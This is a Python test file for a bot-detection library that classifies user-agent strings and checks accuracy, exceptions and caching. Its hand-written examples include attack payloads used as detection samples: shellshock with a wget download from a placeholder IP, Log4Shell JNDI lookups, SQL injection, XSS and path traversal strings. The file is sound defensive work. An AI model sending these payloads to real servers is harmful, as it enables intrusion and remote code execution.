"""The bot detector: accuracy floors on a shipped sample, every pattern, exceptions, cache."""

from __future__ import annotations

import json
from importlib import resources

import pytest
import re2

from edgefilter import BotDetector, ConfigError
from edgefilter._bots import (
    DEBATABLE_CRAWLER_PATTERNS,
    EXCEPTIONS,
    FAMILIES,
    MAX_UA_LENGTH,
    SET_CHUNK,
    TOKENS,
    _CrawlerList,
    _options,
    _PatternSet,
)

from .conftest import CHROME, DATA, GOOGLEBOT

BOTS = (DATA / "ua" / "bots-sample.txt").read_text(encoding="utf-8").splitlines()
BROWSERS = (DATA / "ua" / "browsers-sample.txt").read_text(encoding="utf-8").splitlines()
# Examples for our tokens that the shipped bot sample has no instance of.
HAND_EXAMPLES = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ExampleProspecting/0.1 Safari/537.36",
    "Prometheus/2.45.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 WebDriver",
    "Mozilla/5.0 (Unknown; Linux) AppleWebKit/538.1 (KHTML, like Gecko) SlimerJS/1.0",
    "Mozilla/5.0 (Java) HtmlUnit/2.70",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Cypress/13.6.0 Chrome/118",
    "Mozilla/5.0 (compatible; Rendertron/1.0)",
    "insomnia/2023.5.8",
    "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53",
    "libcurl-agent/1.0",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3570",
    # scanners and payloads
    '() { :;}; /bin/bash -c "wget http://198.51.100.7/x"',
    "Mozilla/5.0 <script>alert(1)</script>",
    "${jndi:ldap://198.51.100.7:1389/a}",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 ${${lower:j}ndi:ldap://198.51.100.7/a}",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 {{7*7}}",
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" AND 4242=4242 AND "a"="a',
    "Mozilla/5.0' UNION SELECT 1,2,3--",
    "Mozilla/5.0' or '1'='1",
    "../../../../etc/passwd",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' AND SLEEP(5)--",
    "Mozilla/5.0'; WAITFOR DELAY '0:0:5'--",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Acunetix Web Vulnerability Scanner",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 ProxyChecker/2.0",
    # AI coding agents
    "GitHub-Copilot/1.155.0",
    "OpenAI Codex/0.46.0 (Linux 6.8; x86_64)",
    "codex_cli_rs/0.46.0 (Mac OS 15.6.1; arm64) iTerm.app/3.5.10",
    "Devin/1.0 (+https://devin.ai)",
    "Cline/3.17.0",
    "aider/0.86.1",
    "Windsurf/1.10.3",
    "opencode/0.5.2",
    "gemini-cli/0.1.9 (linux; x64)",
    # diagnostics and uptime agents
    "Microsoft Windows Network Diagnostics",
    "Elastic-Heartbeat/8.12.0 (linux; amd64)",
    "Mozilla/5.0 (compatible; probe/1.0)",
    # renderers, screenshot services, transcoding proxies
    "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/30.0.1599.69 Safari/537.36 Webthumb/2.0",
    "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/534.34 (KHTML, like Gecko) Websnapr/3.0 Safari/534.34",
    "Mozilla/5.0 Chrome/10.0.613.0 Safari/534.15 Zombie.js/5.0.7",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; baidu Transcoder;)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.97 Safari/537.36 Yandex.Translate",
    # developer tools
    "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0 os/linux arch/amd64",
    "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
    "Gradle/8.5 (Linux;6.1.0;amd64) (Eclipse Adoptium;17.0.9;17.0.9+9)",
    "Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/4.1.6",
    "URLTester/1 CFNetwork/974.1 Darwin/18.0.0 (x86_64)",
    "Lavf/60.3.100",
    "Microsoft Office Word 2013 (15.0.4805) Windows NT 10.0",
    "URL/Emacs Emacs/28.2 (X11; x86_64-pc-linux-gnu)",
    "Mozilla/5.0 (compatible; MSIE 7.0; Windows NT 5.1) 360JK yunjiankong 123456",
    "ExampleSite Analyzer/1.0",
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/602.1 (KHTML, like Gecko) QuiteRSS/0.18.12 Safari/602.1",
    # feed readers that say neither "feed" nor "rss"
    "Reeder/5040002 CFNetwork/1408.0.4 Darwin/22.5.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_2) AppleWebKit/537.74.9 (KHTML, like Gecko) NetNewsWire/4.0.0",
    "ReadKit/7017 CFNetwork/673.2.1 Darwin/13.1.0 (x86_64)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) akregator/4.11.5 Safari/537.21",
    "Newsboat/2.30.1 (Linux x86_64)",
    "Liferea/1.13.8 (Linux; en_US.UTF-8; https://lzone.de/liferea/)",
]
detector = BotDetector()
# People whose user agents look like bots: each EXCEPTIONS pattern and each non-Mozilla
# shape has one here, and so do the debatable crawler-list patterns.
PEOPLE_TRAPS = [
    # phones and apps whose names contain bot-like words (EXCEPTIONS)
    "Mozilla/5.0 (Linux; Android 6.0; CUBOT DINOSAUR Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/62.0.3202.84 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; U; Slackware Linux i686; en-US; rv:1.9.0.10) Gecko/2009042315 Firefox/3.0.10",
    "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.10) Gecko/2009042315 Firefox/3.0.10 (Splashtop-v1.4.6.10)",
    "Safari%20Technology%20Preview/11601.7.4 CFNetwork/760.5.1 Darwin/15.5.0 (x86_64)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 11_1_2 like Mac OS X) AppleWebKit/604.3.5 (KHTML, like Gecko) Mobile/15B202 (Ecosia ios@3.0.1.533)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 11_2_5 like Mac OS X) AppleWebKit/604.5.6 (KHTML, like Gecko) Mobile/15D60 [FBAN/FBIOS;FBDV/iPhone9,3;FBMD/iPhone;FBSN/iOS;FBSV/11.2.5;FBSS/2;FBCR/Vodafone.de;FBID/phone;FBLC/de_DE;FBOP/5]",
    "Opera/9.27",
    "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.132 Safari/537.36 SogouMSE,SogouMobileBrowser/5.22.8",
    "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
    # browser shapes that are not Mozilla (BROWSER_SHAPES)
    "Opera/9.80 (Android; Opera Mini/7.5.33725/66.247; U; en) Presto/2.12.423 Version/12.16",
    "Dalvik/2.1.0 (Linux; U; Android 6.0.1; HTC Desire EYE Build/MMB29M)",
    "Twitter/6.48 CFNetwork/758.2.8 Darwin/15.0.0",
    "Nokia110/2.0 (03.33) Profile/MIDP-2.1 Configuration/CLDC-1.1 Mozilla/5.0 (Java; U; en-us; nokia110) UCBrowser8.3.1.161/70/352/UCWEB Mobile UNTRUSTED/1",
    "Yammer/6.6.23.1427 (iPhone6,2; iPhone OS 8.3; en_GB; en; Scale/2.00)",
    # debatable crawler-user-agents patterns that match ordinary browsers
    "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 7.0; SM-G950F Build/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/65.0.3325.109 Mobile Safari/537.36 Blackboard/3.6",
    CHROME,
    # Google the device brand (the Google exceptions)
    "Mozilla/5.0 (Linux; GoogleTV 3.2; LG Google TV G3 Build/MASTER) AppleWebKit/534.24 (KHTML, like Gecko) Chrome/11.0.696.77 Safari/534.24",
    "ExampleShop/2.8 (Android 4.3; LGE Mako; )[locale=de_DE;clientidbase=android-google]",
    "FAKE_USER_AGENT Samsung SPH-A920",
    # an Electron desktop app named like a bot (the Electron exception)
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Notion/2.3.2 Chrome/120.0.0.0 Electron/28.1.0 Safari/537.36",
    # quotes its own header name (the "user-agent" exception)
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; User-agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1))",
]


def test_every_bot_a_debatable_pattern_stands_for_is_still_caught() -> None:
    """The crawler-list patterns left out (they match people too) cost no bot: each of their
    listed instances is caught by the other layers."""
    entries = json.loads(
        resources.files("crawleruseragents").joinpath("crawler-user-agents.json").read_text()
    )
    debatable = [entry for entry in entries if entry["pattern"] in DEBATABLE_CRAWLER_PATTERNS]
    assert len(debatable) == len(DEBATABLE_CRAWLER_PATTERNS)
    # the instances that are people: an Android build, in-app browsers, Electron editors
    people = {"AP3A\\.240617\\.008", "MetaIAB Facebook", "Code\\/1\\.", "Trae\\/"}
    missed = [
        ua
        for entry in debatable
        if entry["pattern"] not in people
        for ua in entry.get("instances") or []
        if not detector.is_bot(ua)
    ]
    assert missed == []


def test_accuracy_floors_on_the_shipped_sample() -> None:
    """At least 99% of sampled bots caught (500 of 503 now), at most 0.2% of sampled
    browsers flagged (2 of 1,100: a shellshock payload and a string with a URL)."""
    caught = sum(1 for ua in BOTS if detector.is_bot(ua)) / len(BOTS)
    flagged = sum(1 for ua in BROWSERS if detector.is_bot(ua)) / len(BROWSERS)
    assert caught >= 0.99, caught
    assert flagged <= 0.002, flagged


@pytest.mark.parametrize(
    ("family", "pattern"),
    [(family, pattern) for family, patterns in TOKENS.items() for pattern in patterns],
)
def test_every_token_has_a_case(family: str, pattern: str) -> None:
    """Each of our patterns matches a real example, which is classified as a bot."""
    regex = re2.compile(pattern, _options(case_sensitive=False))
    examples = [ua for ua in BOTS + HAND_EXAMPLES if regex.search(ua)]
    assert examples, f"no example for {family} pattern {pattern!r}"
    assert detector.classify(examples[0]) in FAMILIES


@pytest.mark.parametrize(
    ("ua", "family"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "ai",
        ),
        ("Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "ai"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview"),
        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "preview"),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
            "automation",
        ),
        ("python-requests/2.31.0", "library"),
        ("curl/8.4.0", "library"),
        ("AHC/2.0", "library"),
        ("", "empty"),
        ("  ", "empty"),
        ("ab", "empty"),
    ],
)
def test_families(ua: str, family: str) -> None:
    """One case per family."""
    assert detector.classify(ua) == family


@pytest.mark.parametrize("ua", PEOPLE_TRAPS)
def test_people_are_not_bots(ua: str) -> None:
    """Known false-positive traps are classified as people."""
    assert detector.classify(ua) is None


@pytest.mark.parametrize("pattern", EXCEPTIONS)
def test_every_exception_is_needed(pattern: str) -> None:
    """Each exception blanks out a trap that our tokens or the crawler list would otherwise
    call a bot."""
    regex = re2.compile(pattern, _options(case_sensitive=False))
    traps = [ua for ua in PEOPLE_TRAPS if regex.search(ua)]
    assert traps, f"no trap for exception {pattern!r}"
    layers = detector.layers
    guarded = [ua for ua in traps if layers.tokens.search(ua) or layers.crawlers.family(ua)]
    assert guarded, f"{pattern!r} guards nothing"


def test_crawler_list_layer_catches_what_tokens_miss() -> None:
    """A named crawler in a browser-shaped UA is caught by the crawler-user-agents layer only."""
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/76.0.3809.87 Safari/537.36 LinkTiger"
    assert BotDetector(use_crawler_list=False).classify(ua) is None
    assert detector.classify(ua) is not None


@pytest.mark.parametrize(
    ("ua", "is_bot"),
    [
        (CHROME.encode("latin-1"), False),
        (GOOGLEBOT.encode(), True),
        (None, True),
        (42, True),
        ([1], True),
    ],
)
def test_odd_input(ua: object, is_bot: bool) -> None:
    """bytes are decoded; anything that is not text is a bot; nothing raises."""
    assert BotDetector().is_bot(ua) is is_bot


class CountingDetector(BotDetector):
    """Counts uncached verdicts."""

    def __init__(self, *, cache_size: int = 100) -> None:
        super().__init__(cache_size=cache_size, use_crawler_list=False)
        self.calls = 0

    def detect(self, ua: str) -> str | None:
        self.calls += 1
        return super().detect(ua)


def test_verdicts_are_cached() -> None:
    """The second verdict for a string comes from the cache."""
    counting = CountingDetector()
    assert [counting.is_bot(CHROME) for _ in range(3)] == [False] * 3
    assert counting.classify(CHROME) is None
    assert counting.calls == 1


def test_cache_is_bounded() -> None:
    """Past its size the cache drops its older half, so new strings cannot grow it forever."""
    counting = CountingDetector(cache_size=4)
    for index in range(10):
        counting.is_bot(f"Mozilla/5.0 {index}")
    assert len(counting.verdicts) <= 4
    counting.is_bot("Mozilla/5.0 0")
    assert counting.calls == 11


class RecordingDetector(CountingDetector):
    """Also records the text each uncached verdict was computed on."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def detect(self, ua: str) -> str | None:
        self.seen.append(ua)
        return super().detect(ua)


def test_huge_user_agent_is_cut_and_not_kept() -> None:
    """Only the first 512 characters decide (a bot token past them is not read); a huge
    string is answered but not cached."""
    recording = RecordingDetector()
    padded = CHROME + " " * (MAX_UA_LENGTH - len(CHROME))
    huge = padded + GOOGLEBOT + "x" * 1_000_000
    assert recording.is_bot(huge) is False
    assert recording.seen == [padded]
    assert huge not in recording.verdicts
    assert recording.is_bot(huge) is False
    assert recording.calls == 2  # not kept: computed again


def test_a_user_agent_up_to_four_cuts_long_is_kept() -> None:
    """A long string (under four times the cut) is cached under its whole text."""
    recording = RecordingDetector()
    long = CHROME + " " * (3 * MAX_UA_LENGTH)
    assert recording.is_bot(long) is False
    assert long in recording.verdicts


@pytest.mark.parametrize("size", [0, -1, True, 1.5, "10"])
def test_a_cache_size_below_one_or_not_an_int_is_refused(size: object) -> None:
    """cache_size must be an int of at least 1: ConfigError naming it."""
    with pytest.raises(ConfigError, match="cache_size"):
        BotDetector(cache_size=size)  # type: ignore[arg-type]


def test_a_cache_of_one_stays_bounded() -> None:
    """The smallest cache keeps one verdict, the latest."""
    counting = CountingDetector(cache_size=1)
    for index in range(5):
        counting.is_bot(f"Mozilla/5.0 {index}")
    assert list(counting.verdicts) == ["Mozilla/5.0 4"]


@pytest.mark.parametrize(
    ("ua", "is_bot"),
    [
        (memoryview(GOOGLEBOT.encode()), True),
        (memoryview(bytearray(CHROME.encode())), False),  # unhashable
        (bytearray(CHROME.encode()), False),
        (type("Text", (str,), {})(GOOGLEBOT), True),
    ],
)
def test_bytes_like_and_subclasses_are_read_as_text(ua: object, is_bot: bool) -> None:
    """memoryview and bytearray are decoded like bytes; a str subclass is its text."""
    assert BotDetector().is_bot(ua) is is_bot


def test_bytes_find_the_verdict_of_their_text() -> None:
    """bytes whose text has a verdict do not compute it again."""
    counting = CountingDetector()
    assert counting.is_bot(CHROME) is False
    assert counting.is_bot(CHROME.encode("latin-1")) is False
    assert counting.calls == 1


def test_pattern_sets_split_in_chunks_answer_as_one() -> None:
    """Patterns split into several RE2 sets answer as one set would: indexes across the
    sets, a pattern RE2 refuses skipped without shifting the others, the first family."""
    words = [f"w{number:03d}x" for number in range(2 * SET_CHUNK + 7)]
    refused = SET_CHUNK  # the first of the second set: "(" is no pattern
    patterns = [*words[:refused], "(", *words[refused:]]
    every = _PatternSet(patterns)
    assert every.patterns == words and len(every.sets) == 3
    probe = f"{words[3]} {words[SET_CHUNK + 1]} {words[-1]}"
    assert every.matching(probe) == [3, SET_CHUNK + 1, len(words) - 1]
    assert every.matches(words[-1]) and not every.matches("nothing here")
    assert every.first(probe) == 3 and every.first(words[-1]) == len(words) - 1
    assert every.first("nothing here") is None
    crawlers = _CrawlerList([(word, f"family{number}") for number, word in enumerate(words)])
    assert crawlers.family(f"{words[-1]} {words[SET_CHUNK + 2]}") == f"family{SET_CHUNK + 2}"
    assert crawlers.family("nothing here") is None


def test_the_device_catalogue_answers_as_one_set() -> None:
    """The catalogue searches the patterns that need " Build" or ") AppleWebKit" only where
    a string holds one (in any case, for the case-blind ones): it answers as every pattern
    in one set does, on the shipped samples and on devices that only those patterns know."""
    catalogue = detector.layers.devices
    assert catalogue.plain.patterns and catalogue.folded.patterns and catalogue.rest.patterns
    one_set = _PatternSet(catalogue.patterns)
    gated_only = [  # no "Android": uap-core's generic Android patterns are not gated
        "ExampleApp/1.0 (X11; Coolpad 3310A Build/1)",
        "ExampleApp/1.0 (X11; Coolpad 3310A) AppleWebKit/1",
        "ExampleApp/1.0 (X11; q700 BUILD/1)",  # a case-blind pattern
        "ExampleApp/1.0 (X11; q700) applewebkit/1",
        "ExampleApp/1.0 (X11; Coolpad 3310A)",  # no suffix: no device
        "ExampleApp/1.0 (X11; q700)",
    ]
    for ua in [*BOTS, *BROWSERS, *gated_only]:
        assert catalogue.matches(ua) == one_set.matches(ua), ua
    assert [catalogue.matches(ua) for ua in gated_only] == [True] * 4 + [False] * 2
